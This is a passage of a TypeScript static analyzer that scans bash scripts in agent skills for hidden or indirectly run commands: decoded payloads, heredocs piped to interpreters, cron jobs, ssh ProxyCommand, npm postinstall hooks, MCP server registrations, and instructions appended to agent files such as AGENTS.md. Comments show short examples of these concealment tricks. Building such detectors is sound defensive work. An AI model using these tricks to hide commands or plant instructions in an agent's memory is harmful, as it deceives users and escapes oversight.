          ? env.eval({ parts: [{ k: 'var', name }], raw: `$${name}` })
          : undefined;
      },
      this.taint(f),
    );
  }

  /** an unquoted heredoc or herestring fed to Python or JS whose text is only known with holes */
  private interpreterInput(f: CmdFact): Finding[] | undefined {
    const lang = BashRun.interpreterLang(f);
    if (!lang) return undefined;
    // its own heredoc, or one `cat` passes on (`cat <<EOF | python3 -`)
    let from: CmdFact | undefined = f;
    if (f.input === undefined || f.cmd.stdin.length) {
      const [id, more] = f.cmd.stdin;
      const cat = id !== undefined && more === undefined ? this.flow.fact(id) : undefined;
      from =
        cat?.fam === 'cat' && !cat.positional.length && !cat.cmd.stdin.length ? cat : undefined;
    }
    if (!from || from.input === undefined) return undefined;
    const r = from.cmd.redirects.find(
      (x) => ((x.op === '<<' || x.op === '<<-') && x.body) || (x.op === '<<<' && x.target),
    );
    const word = r?.body ?? r?.target;
    if (!word) return undefined;
    const code = expandCode(word, this.facts.env, this.taint(from)) + (r?.op === '<<<' ? '\n' : '');
    return this.ctx.embedded(this.interpreterEnv(f, code, true), lang, {
      line: from.inputLine ?? from.cmd.line,
      decodedFrom: 'heredoc',
    });
  }

  /**
   * The text filter over a file the skill ships whose output a shell runs, when what it prints
   * is not known (extract.ts models the simple forms): `awk '{if ($1=="run") print $2}'
   * steps.txt | sh` hides its command in a document as surely as an encoding does
   */
  private unknownExtract(f: CmdFact, depth = 0): { name: string; file: string } | undefined {
    if (depth === 0 && !SHELLS.has(f.fam)) return undefined;
    if (depth > 4) return undefined;
    for (const id of f.cmd.stdin) {
      const g = this.facts.facts[id];
      if (!g || !EXTRACTORS.has(g.fam)) continue;
      const files = extractFiles(g.fam, g);
      const shipped = files.length ? this.shipped.file(files[0] as Val, g) : undefined;
      // (a script of the skill's own, filtered, is judged by the script's own scan: `sed
      // "s/@V@/$V/" install.sh | bash`; a document or data file is read as no code)
      if (shipped && detectLanguage(shipped.path, shipped.text) === 'bash') return undefined;
      if (shipped) return { name: g.name, file: (files[0] as Val).s };
      // (`grep -A1 X notes.txt | tail -n 1 | sh`: through the filters of its stdin)
      const before = files.length ? undefined : this.unknownExtract(g, depth + 1);
      if (before) return before;
    }
    return undefined;
  }

  embedded(): Finding[] {
    const out: Finding[] = [...(this.printed?.findings ?? [])];
    const ctx = this.ctx;
    for (const f of this.facts.facts) {
      checkDeadline(ctx);
      const line = f.cmd.line;
      const st = this.outputs.out(f.id);
      if (st?.decodedFrom) {
        // only the last decoder of a chain is scanned
        const consumedByDecoder = this.readersOf(f).some(
          (g) => this.outputs.out(g.id)?.decodedFrom,
        );
        const text = printable(st.bytes);
        if (text && !consumedByDecoder)
          out.push(
            ...ctx.embedded(text, guessLanguage(text), { line, decodedFrom: st.decodedFrom }),
          );
      }
      if (f.code.stdin) {
        const input = this.outputs.stdin(f);
        const heredoc = input ? undefined : this.interpreterInput(f);
        const pulled = input || heredoc ? undefined : this.unknownExtract(f);
        if (pulled)
          out.push(
            findingFor(UNANALYZABLE, {
              file: this.file.path,
              line,
              message: `${this.file.path} could not be analyzed: line ${line} runs (${f.name}) what \`${pulled.name}\` pulls out of ${pulled.file}, a file the skill ships, and what that is could not be worked out.`,
            }),
          );
        if (heredoc) out.push(...heredoc);
        else if (input && !input.decodedFrom) {
          const raw = printable(input.bytes);
          const text = raw && this.interpreterEnv(f, raw, true);
          const lang =
            f.fam === 'python'
              ? 'python'
              : f.fam === 'node'
                ? 'javascript'
                : f.fam === 'eval' ||
                    f.fam === 'trap' ||
                    family(f.name) === 'sh' ||
                    /sh$/.test(f.fam)
                  ? 'bash'
                  : undefined;
          if (text && lang)
            out.push(
              ...ctx.embedded(
                text,
                lang,
                f.input !== undefined && f.inputLine
                  ? { line: f.inputLine, decodedFrom: 'heredoc' }
                  : { line, decodedFrom: 'echo' },
              ),
            );
        }
      }
      const lang =
        f.fam === 'python'
          ? 'python'
          : f.fam === 'node' || f.fam === 'bun' || f.fam === 'deno'
            ? 'javascript'
            : f.fam === 'eval' ||
                f.fam === 'trap' ||
                /^(?:sh|bash|zsh|dash|ksh|ash|mksh)$/.test(f.fam)
              ? 'bash'
              : undefined;
      const ps = f.fam === 'pwsh' ? this.powershellCode(f) : undefined;
      if (ps) out.push(...ctx.embedded(ps, 'powershell', { line, decodedFrom: `${f.name} -c` }));
      const handed = this.credentialArguments(f);
      if (handed)
        out.push(...ctx.embedded(handed.text, handed.lang, { line, decodedFrom: 'arguments' }));
      if (lang) {
        const code =
          lang === 'bash'
            ? f.code.words.map((w) => (w.known ? w.s : (this.shellCode(f, w) ?? '')))
            : f.code.words.map((w) => this.interpreterCode(f, w) ?? '');
        const text = this.interpreterEnv(f, code.join(' '), false);
        if (code.length && text.trim())
          out.push(...ctx.embedded(text, lang, { line, decodedFrom: `${f.name} -c` }));
      }
      if (/^(?:(?:g|m|n|busybox-)?awk|perl|ruby|php|lua)$/.test(f.fam)) {
        // the shell command an inline awk/Perl/Ruby/PHP/Lua program runs
        const prog = /awk$/.test(f.fam)
          ? f.opts.has('-f')
            ? []
            : f.positional.slice(0, 1)
          : f.code.words;
        for (const a of prog)
          if (a.known) {
            for (const m of a.s.matchAll(RUNS_SHELL_STRING)) {
              const cmd = (m[2] ?? m[4] ?? m[6] ?? '').replace(/\\(.)/g, '$1');
              if (cmd.trim())
                out.push(...ctx.embedded(cmd, 'bash', { line, decodedFrom: `${f.fam} system` }));
            }
            if (/awk$/.test(f.fam))
              for (const cmd of awkGetlineCommands(a.s))
                out.push(...ctx.embedded(cmd, 'bash', { line, decodedFrom: `${f.fam} getline` }));
          }
      }
      if (f.fam === 'osascript') {
        // AppleScript's `do shell script "…"` runs its string with /bin/sh
        for (const a of f.args)
          if (a.known)
            for (const m of a.s.matchAll(DO_SHELL_SCRIPT))
              out.push(
                ...ctx.embedded((m[1] as string).replace(/\\(.)/g, '$1'), 'bash', {
                  line,
                  decodedFrom: 'osascript',
                }),
              );
      }
      // the server an MCP registration starts is a command the agent runs in every session
      const server = this.mcpServerCommand(f);
      if (server) out.push(...ctx.embedded(server, 'bash', { line, decodedFrom: 'mcp add' }));
      const payload = this.agentJobPayload(f);
      if (payload) {
        // the shell commands a scheduled agent job is told to run: `…`-quoted spans, else the
        // text from the first command word on
        for (const v of payload) {
          if (!v.known) continue;
          const spans = [...v.s.matchAll(/`([^`\n]+)`/g)].map((m) => m[1] as string);
          if (!spans.length) {
            const at = v.s.search(SHELL_START);
            if (at >= 0) spans.push(v.s.slice(at).replace(/^[\s:;(]+/, ''));
          }
          for (const code of spans)
            out.push(...ctx.embedded(code, 'bash', { line, decodedFrom: 'agent-cron' }));
        }
      }
      // the commands ssh runs locally when it connects (`-o ProxyCommand=…`, a ~/.ssh/config the
      // script writes): the user's shell runs them
      if (/^(?:auto)?ssh$|^s(?:cp|ftp)$/.test(f.fam))
        for (const cmd of f.opts.get('-o')?.flatMap((o) => sshLocalCommands(o.known ? o.s : '')) ??
          [])
          out.push(...ctx.embedded(cmd, 'bash', { line, decodedFrom: 'ssh local command' }));
      // the same for the commands other tools run from a configuration file the script writes (a
      // git config's core.fsmonitor, cargo's runner, mise's tasks and hooks: tool-config.ts)
      const config = f.writes.find((w) => TOOL_CONFIG.test(w));
      if (config) {
        const how = SSH_CONFIG.test(config) ? 'ssh local command' : `command in ${config}`;
        for (const cmd of configCommands(config, this.writtenText(f) ?? ''))
          out.push(...ctx.embedded(cmd, 'bash', { line, decodedFrom: how }));
      }
      // the text written into a configuration file that READ_AS_WRITTEN names is read as that
      // file, so the config rules judge what it sets: the hooks folder, ssh command or file
      // monitor of every repository, mise's hooks and sourced scripts, an agent's approval switches
      // and hooks (as the JS and Python analyzers read the settings they write)
      for (const kind of READ_AS_WRITTEN) {
        const to = f.writes.find((w) => kind.test(w));
        const text = to === undefined ? undefined : this.writtenText(f);
        if (to !== undefined && text)
          out.push(
            ...ctx.embedded(text, 'text', { line, decodedFrom: `written to ${to}`, asFile: to }),
          );
      }
      // instructions written into an agent's instruction or memory file (`cat >> AGENTS.md <<EOF`,
      // `echo '…' >> CLAUDE.md`): every later session of that agent reads them as its own, so
      // what the prose rules find there (override, conceal, approve, send) is the script's
      const into = f.writes.find((w) => AGENT_INSTRUCTION_FILE.test(w));
      if (into) {
        const text = this.writtenText(f);
        if (text)
          out.push(
            ...ctx
              .embedded(text, 'text', { line, decodedFrom: `written to ${into}` })
              .filter(injectionFinding),
          );
      }
      // `npm pkg set scripts.postinstall="…"`: the command line npm runs for that script (a
      // lifecycle one at every install)
      if (f.fam === 'npm' && f.positional[0]?.s === 'pkg' && f.positional[1]?.s === 'set')
        for (const a of f.positional.slice(2, 34)) {
          const m = /^scripts\.[\w:.-]+=([\s\S]+)$/.exec(a.known ? a.s : '');
          if (m?.[1])
            out.push(
              ...ctx
                .embedded(m[1], 'bash', { line, decodedFrom: 'npm script' })
                .filter((x) => x.category === 'threat'),
            );
        }
      if (f.fam === 'at' || f.fam === 'batch') {
        // `echo 'cmd' | at now + 5 minutes`: at runs its stdin later
        const input = this.outputs.stdin(f);
        const text = input ? printable(input.bytes) : undefined;
        if (text) out.push(...ctx.embedded(text, 'bash', { line, decodedFrom: 'at' }));
      }
      if (f.fam === 'crontab') {
        const input = this.outputs.stdin(f);
        const text = input ? printable(input.bytes) : undefined;
        if (text) {
          const cmds = text
            .split('\n')
            .map((l) => l.trim())
            .filter((l) => l && !l.startsWith('#') && !/^[A-Z_]+=/.test(l))
            .map((l) => l.replace(/^(?:@\w+|(?:\S+\s+){5})/, ''));
          if (cmds.length)
            out.push(...ctx.embedded(cmds.join('\n'), 'bash', { line, decodedFrom: 'crontab' }));
        }
      }
      if (
        f.input !== undefined &&
        f.inputLine &&
        !f.code.stdin &&
        f.writes.some((w) =>
          /(?:^|\/)\.(?:bash|zsh)?(?:rc|profile|_profile|env|login)$|\.(?:sh|bash|zsh)$/.test(w),
        )
      )
        out.push(
          ...ctx.embedded(f.input.split(UNKNOWN).join('X'), 'bash', {
            line: f.inputLine,
            decodedFrom: 'heredoc',
          }),
        );
      // a CI workflow written from a heredoc (`cat > .github/workflows/x.yml <<EOF`) is read as
      // the shipped workflow file would be (text rules: secrets dumps, event text run as script)
      else if (
        f.input !== undefined &&
        f.inputLine &&
        !f.code.stdin &&
        f.writes.some((w) =>
          /(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$|(?:^|\/)\.gitlab-ci\.ya?ml$/.test(w),
        )
      )
        out.push(
          ...ctx.embedded(f.input.split(UNKNOWN).join('X'), 'text', {
            line: f.inputLine,
            decodedFrom: 'heredoc',
          }),
        );
    }
    return out;
  }
}

type Plan = (run: BashRun) => Hit[];

/** each rule's match compiled once into a function of the run (patterns, name tests, sub-plans) */
const plans = new WeakMap<BashMatch, Plan>();

function planFor(m: BashMatch): Plan {
  let plan = plans.get(m);
  if (plan) return plan;
  if ('any' in m) {
    const parts = m.any.map(planFor);
    plan = (run) => {
      let out: Hit[] | undefined;
      for (const part of parts) {
        const hits = part(run);
        if (hits.length) out = out ? out.concat(hits) : hits;
      }
      return out ?? [];
    };
  } else if ('command' in m) {
    const test = commandMatcher(m.command);
    const named = namedCommandMatcher(m.command);
    const notContent = m.command.notContent;
    const declares = m.command.declares?.includes('env');
    const notDeclares = m.command.notDeclares?.includes('env');
    const notAfter = m.command.notAfter ? commandMatcher({ args: m.command.notAfter }) : undefined;
    const notPruned = m.command.notStdin?.includes('pruned-list');
    const notDiscarded = m.command.notOutput?.includes('discarded');
    const ownJob = m.command.job?.includes('own');
    const notOwnJob = m.command.notJob?.includes('own');
    const notShippedCopy = m.command.notCopy?.includes('shipped');
    const notArgumentCopy = m.command.notCopy?.includes('argument');
    const notCompletion = m.command.notWriter?.includes('completion');
    const carries = m.command.carries?.filter(
      (k): k is SentKind =>
        k === 'identity' || k === 'secret' || k === 'computed' || k === 'credential',
    );
    const agentJob = m.command.agentJob;
    const client = m.command.client?.includes('issuer')
      ? true
      : m.command.notClient?.includes('issuer')
        ? false
        : undefined;
    plan = (run) => {
      let hits = run.commandHits(m.command, test, named);
      if (notContent)
        hits = hits.filter((h) => !contentIsOnly(run.writtenText(h.fact), notContent));
      if (declares) hits = hits.filter((h) => run.rcEnv.content(h.fact) === 'env');
      if (notDeclares) hits = hits.filter((h) => run.rcEnv.content(h.fact) === undefined);
      if (notAfter) hits = hits.filter((h) => !run.followsSameSubject(h.fact, notAfter));
      if (notPruned) hits = hits.filter((h) => !run.prunesOwnList(h.fact));
      if (notDiscarded) hits = hits.filter((h) => !outputDiscarded(h.fact));
      if (ownJob) hits = hits.filter((h) => run.installsOwnJob(h.fact));
      if (notOwnJob) hits = hits.filter((h) => !run.installsOwnJob(h.fact));
      if (notShippedCopy) hits = hits.filter((h) => !run.copiesShipped(h.fact));
      if (notArgumentCopy) hits = hits.filter((h) => !run.placesArgumentFile(h.fact));
      if (notCompletion) hits = hits.filter((h) => !run.writesOwnCompletion(h.fact));
      if (carries?.length) hits = hits.filter((h) => carries.some((k) => run.sends(h.fact, k)));
      if (agentJob) hits = hits.filter((h) => agentJob.includes(run.agentJob(h.fact) ?? ''));
      if (client !== undefined) hits = hits.filter((h) => run.issuerClient(h.fact) === client);
      return hits;
    };
  } else if ('output' in m) {
    plan = (run) => run.outputHits();
  } else if ('capability' in m) {
    const kind = m.capability;
    plan = (run) => run.capabilities(kind);
  } else {
    const { from, to, into, digest, issuer } = m.flow;
    const fromTests = from.map(commandMatcher);
    const toPatterns: Patterns | undefined = to && {
      patterns: to,
      tests: to.map(commandMatcher),
      named: to.map(namedCommandMatcher),
    };
    plan = (run) => run.flowHits(fromTests, toPatterns, into, digest, issuer === 'exempt');
  }
  plans.set(m, plan);
  return plan;
}

/**
 * The sources of a `cp`/`ln`/`install`: every positional word but the target's (the last), whose
 * words a loop's turns repeat in the one expanded list
 */
function copySources(f: CmdFact): Val[] {
  const target = f.positional.at(-1)?.raw;
  return f.positional.filter((v) => v.raw !== target);
}

/** a sensitive read of one service's key of the agent's configuration names it (Finding.configKeys) */
function configKeys(rule: Rule, f: CmdFact): { configKeys?: string[] } {
  return rule.threat === 'sensitive-read' && f.configKey ? { configKeys: [f.configKey] } : {};
}

function finding(rule: Rule, run: BashRun, hit: Hit): Finding {
  const f = hit.fact;
  const c = hit.capability;
  let message = rule.message;
  if (c) {
    const what =
      c.kind === 'network'
        ? c.port !== undefined
          ? `${c.host}:${c.port}`
          : c.host
        : c.kind === 'exec'
          ? c.binary
          : c.kind === 'env'
            ? c.name
            : c.path;
    message = `${rule.message.replace(/\.$/, '')}: ${what}`;
  } else if (hit.detail) message = `${rule.message.replace(/\.$/, '')} (${hit.detail})`;
  return findingFor(rule, {
    file: run.file.path,
    line: f.cmd.line,
    column: f.cmd.column,
    evidence: hit.from ? run.evidenceFrom(hit.from, f) : run.evidence(f),
    capability: c,
    message,
    ...(hit.sends !== undefined ? { sends: hit.sends } : {}),
    ...(hit.destination ? { destination: hit.destination } : {}),
    ...(hit.hostVariable ? { hostVariable: hit.hostVariable } : {}),
    ...(hit.keys ? { keys: hit.keys } : {}),
    ...(hit.contentKeys ? { contentKeys: hit.contentKeys } : {}),
    ...configKeys(rule, f),
  });
}

/** the name tests of the rule set's command matches and flow targets, compiled once per rule set */
const nameIndexMemo = new WeakMap<readonly Rule[], NameIndex>();

function nameIndexOf(rules: readonly Rule[]): NameIndex {
  let index = nameIndexMemo.get(rules);
  if (!index) {
    const patterns: CommandPattern[] = [];
    const add = (m: BashMatch): void => {
      if ('command' in m) patterns.push(m.command);
      else if ('flow' in m) patterns.push(...(m.flow.to ?? []));
      else if ('any' in m) m.any.forEach(add);
    };
    for (const r of rules) add(r.match as unknown as BashMatch);
    nameIndexMemo.set(rules, (index = new NameIndex(patterns)));
  }
  return index;
}

/**
 * Per rule of the rule set: when its match is only command patterns with a name test, or flows
 * whose `to` patterns all have one (alone or under `any`), the positions of those patterns in the
 * name index (a script with no command passing one of them gets no hit from the rule); undefined
 * for any other rule. Once per rule set.
 */
const namedOnlyMemo = new WeakMap<readonly Rule[], Array<number[] | undefined>>();

function namedOnlyOf(rules: readonly Rule[], index: NameIndex): Array<number[] | undefined> {
  let out = namedOnlyMemo.get(rules);
  if (!out) {
    const slotsOf = (m: BashMatch, into: number[]): boolean => {
      if ('any' in m) return m.any.every((x) => slotsOf(x, into));
      // a flow `to` commands that all have a name test reaches none in a script that runs none
      // of them (flowHits skips every command its `to` patterns do not match)
      const patterns = 'command' in m ? [m.command] : 'flow' in m ? m.flow.to : undefined;
      if (!patterns?.length) return false;
      for (const p of patterns) {
        const slot = index.slots.get(p);
        if (slot === undefined) return false;
        into.push(slot);
      }
      return true;
    };
    out = rules.map((r) => {
      const slots: number[] = [];
      return slotsOf(r.match as unknown as BashMatch, slots) ? slots : undefined;
    });
    namedOnlyMemo.set(rules, out);
  }
  return out;
}

/** the commands the exfiltration flow rules start from, compiled once per rule set */
const secretSourceMemo = new WeakMap<readonly Rule[], Array<(f: CmdFact) => boolean>>();

function secretSourcesOf(rules: readonly Rule[]): Array<(f: CmdFact) => boolean> {
  let tests = secretSourceMemo.get(rules);
  if (!tests) {
    tests = [];
    const add = (m: BashMatch): void => {
      if ('flow' in m) tests?.push(...m.flow.from.map(commandMatcher));
      else if ('any' in m) m.any.forEach(add);
    };
    for (const r of rules) if (r.threat === 'exfiltration') add(r.match as unknown as BashMatch);
    secretSourceMemo.set(rules, tests);
  }
  return tests;
}

export function analyzeBash(
  file: SourceFile,
  rules: readonly Rule[],
  ctx: AnalyzerContext,
): Finding[] {
  const run = new BashRun(file, ctx);
  run.secretSources = secretSourcesOf(rules);
  run.names = nameIndexOf(rules);
  const namedOnly = namedOnlyOf(rules, run.names);
  const out: Finding[] = [];
  const seen = new Set<string>();
  const programs = new Map<string, Finding>();
  for (const [i, rule] of rules.entries()) {
    checkDeadline(ctx);
    // a rule of named commands only, none of which the script runs: nothing to evaluate
    const slots = namedOnly[i];
    if (slots && !run.namesAny(slots)) continue;
    const m = rule.match as unknown as BashMatch;
    const hits = run.hits(m);
    if ('capability' in m && m.capability === 'env')
      for (const r of run.assignmentEnvRefs()) {
        const key = `${rule.id}\0env:${r.name}`;
        if (seen.has(key)) continue;
        seen.add(key);
        out.push(
          findingFor(rule, {
            file: file.path,
            line: r.line,
            evidence: file.text.split('\n')[r.line - 1]?.trim(),
            capability: { kind: 'env', name: r.name },
            message: `${rule.message.replace(/\.$/, '')}: ${r.name}`,
          }),
        );
      }
    for (const h of hits) {
      const c = h.capability;
      // one finding per rule and command, one per capability value in a file
      // (a sending use of a host is kept next to a plain fetch of it); a program's one finding
      // keeps every first argument it is run with in the file (`subs`), each judged against a
      // two-word exec entry
      if (c?.kind === 'exec') {
        const key = `${rule.id}\0exec:${c.binary}`;
        const first = programs.get(key);
        if (first?.capability?.kind === 'exec') {
          const subs = first.capability.subs ?? [first.capability.sub];
          if (!subs.includes(c.sub))
            first.capability = { ...first.capability, subs: [...subs, c.sub] };
          continue;
        }
        const f = finding(rule, run, h);
        programs.set(key, f);
        out.push(f);
        continue;
      }
      const key = c
        ? `${rule.id}\0${c.kind}:${JSON.stringify(c)}${h.sends ? '\0sends' : ''}`
        : `${rule.id}\0${h.fact.id}`;
      if (seen.has(key)) continue;
      seen.add(key);
      out.push(finding(rule, run, h));
    }
  }
  out.push(...run.embedded());
  if (ctx.link) run.reportLinks(ctx.link);
  return out;
}

/** a value whose known end globs files of one kind (`…/lib/*.sh`) */
const LOOP_GLOB = /\/[\w.-]*\*[\w-]*\.[A-Za-z0-9]{1,8}$/;

export const bashAnalyzer: Analyzer = {
  languages: ['bash'],
  validateMatch: (m) => validateBashMatch(m),
  analyze: analyzeBash,
};

/** the last segment of a path */
function baseName(p: string): string {
  return p.slice(p.lastIndexOf('/') + 1);
}
